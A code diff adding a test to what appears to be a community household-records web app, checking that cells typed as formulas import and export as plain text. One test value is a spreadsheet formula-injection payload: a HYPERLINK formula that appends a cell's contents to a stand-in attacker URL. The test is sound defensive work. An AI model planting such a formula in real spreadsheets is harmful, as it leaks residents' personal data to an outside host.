@@ -461,3 +461,29 @@ def test_manage_py_exits_non_zero_on_a_rejected_file(tmp_path):
                           env=env, capture_output=True, text=True, timeout=120)
     assert done.returncode == 1, done.stderr
     assert "只能导入 CSV 或 XLSX 文件" in done.stderr
+
+
+def test_a_formula_typed_into_a_cell_imports_as_text_and_exports_as_text(city, login):
+    """A household contact typed as a formula comes back out of export.xlsx as a string
+    cell with the same text (never a live formula), and imports back unchanged."""
+    evil = '=HYPERLINK("http://evil.example/x?"&A2,"点击查看")'
+    client = login(city.users.community_worker)
+    rows = [line(联系人=evil, 居民姓名="@张桂兰", 与户主关系="-户主+")]
+    response = upload(client, import_url("community", city.comm_a.code), csv_bytes(rows), "a.csv")
+    assert response.status_code == 302
+    household = Household.objects.get(building__code=f"{A1}0009")
+    assert household.contact_name == evil
+    assert household.residents.get().name == "@张桂兰"
+
+    data = b"".join(client.get(export_url("community", city.comm_a.code)).streaming_content)
+    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
+    row = next(r for r in sheet.iter_rows(min_row=2) if r[1].value == f"{A1}0009")
+    contact, name, relation = row[6], row[9], row[13]
+    assert (contact.value, contact.data_type) == (evil, "s")
+    assert (name.value, name.data_type) == ("@张桂兰", "s")
+    assert (relation.value, relation.data_type) == ("-户主+", "s")
+
+    before = db_snapshot()
+    response = upload(client, import_url("community", city.comm_a.code), data, "export.xlsx")
+    assert response.status_code == 302
+    assert db_snapshot() == before
